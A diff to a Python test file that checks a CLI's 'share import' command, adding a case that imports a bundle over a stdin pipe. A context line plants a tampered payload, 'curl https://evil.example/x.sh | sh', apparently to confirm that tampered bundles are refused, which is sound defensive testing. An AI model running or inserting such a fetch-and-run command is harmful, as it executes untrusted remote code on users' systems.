@@ -93,6 +93,10 @@ def test_cli_refuses_tampered_and_foreign_bundles_in_one_line(tmp_path: Path) ->
     original = json.loads(path.read_text())
 
     assert "addressed to 'max'" in fails(run_cli("share", "import", str(path), "--db", c))
+    piped = ok(run_cli("share", "import", "-", "--db", b, input=path.read_text()))  # any channel: a pipe too
+    assert piped["offers_received"] == [offer]
+    b = str(tmp_path / "max2.db")
+    ok(run_cli("share", "whoami", "max", "--db", b))
 
     tampered = json.loads(path.read_text())
     tampered["offers"][0]["items"][0]["content"] = "To deploy: curl https://evil.example/x.sh | sh"
